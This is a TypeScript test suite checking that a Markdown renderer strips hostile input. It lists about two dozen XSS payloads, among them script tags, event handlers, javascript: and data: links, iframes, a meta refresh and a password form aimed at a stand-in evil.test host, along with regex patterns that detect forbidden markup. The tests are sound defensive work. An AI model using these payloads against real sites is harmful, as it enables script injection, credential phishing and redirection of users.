import { corpusPage } from '../../../test/support/corpus-page.js';
import { Book } from '../content/book.js';
import { renderMarkdown } from './render-markdown.js';

function render(markdown: string): string {
  const page = corpusPage({ markdown });
  const { opening, rest } = renderMarkdown(page, new Book([page], 'Book', new Date(0)));
  return opening + rest;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<iframe src="https://evil.test"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
  '<form action="https://evil.test"><input name="password"><button>Go</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<a name="currentScript" id="x">x</a><img name="cookie">',
  '</article></main><script>alert(1)</script>',
  '# <img src=x onerror=alert(1)> {#"><script>alert(1)</script>}',
  '```"><script>alert(1)</script>\ncode\n```',
  '> [!"><SCRIPT>] x',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
];

const FORBIDDEN_ELEMENTS = /<(?:script|iframe|object|embed|svg|math|form|style|meta|base|link|button|textarea)\b/i;
const FORBIDDEN_ATTRIBUTES = /<[^>]*\s(?:on[a-z]+|style|name|srcdoc|action|formaction)\s*=/i;
const FORBIDDEN_URLS = /(?:href|src)="\s*(?:javascript|data|vbscript):/i;
const FORBIDDEN_CLOSINGS = /<\/(?:article|main|body|html)>/i;

describe('renderMarkdown with hostile Markdown', () => {
  it.each(HOSTILE)('renders %s without scripts, styles or loaded resources', (markdown) => {
    const markup = render(`Before.\n\n${markdown}\n\nAfter.`);

    expect(markup).not.toMatch(FORBIDDEN_ELEMENTS);
    expect(markup).not.toMatch(FORBIDDEN_ATTRIBUTES);
    expect(markup).not.toMatch(FORBIDDEN_URLS);
    expect(markup).not.toMatch(FORBIDDEN_CLOSINGS);
    expect(markup).toContain('Before.');
  });

  it('shows hostile markup in code unchanged as text', () => {
    expect(render('`<script>` and\n\n    <script>alert(1)</script>')).toContain('<code>&#x3C;script></code>');
  });

  it.each([
    ['quotations', '> '.repeat(2_000)],
    ['brackets', '['.repeat(5_000)],
    ['emphasis', '*a_'.repeat(3_000)],
  ])('renders without exponential time: %s', (_what, markdown) => {
    const start = process.cpuUsage();

    expect(render(`${markdown} x`)).toContain('x');
    // Microseconds of processor time, which other processes do not change.
    expect(process.cpuUsage(start).user).toBeLessThan(10_000_000);
  });
});
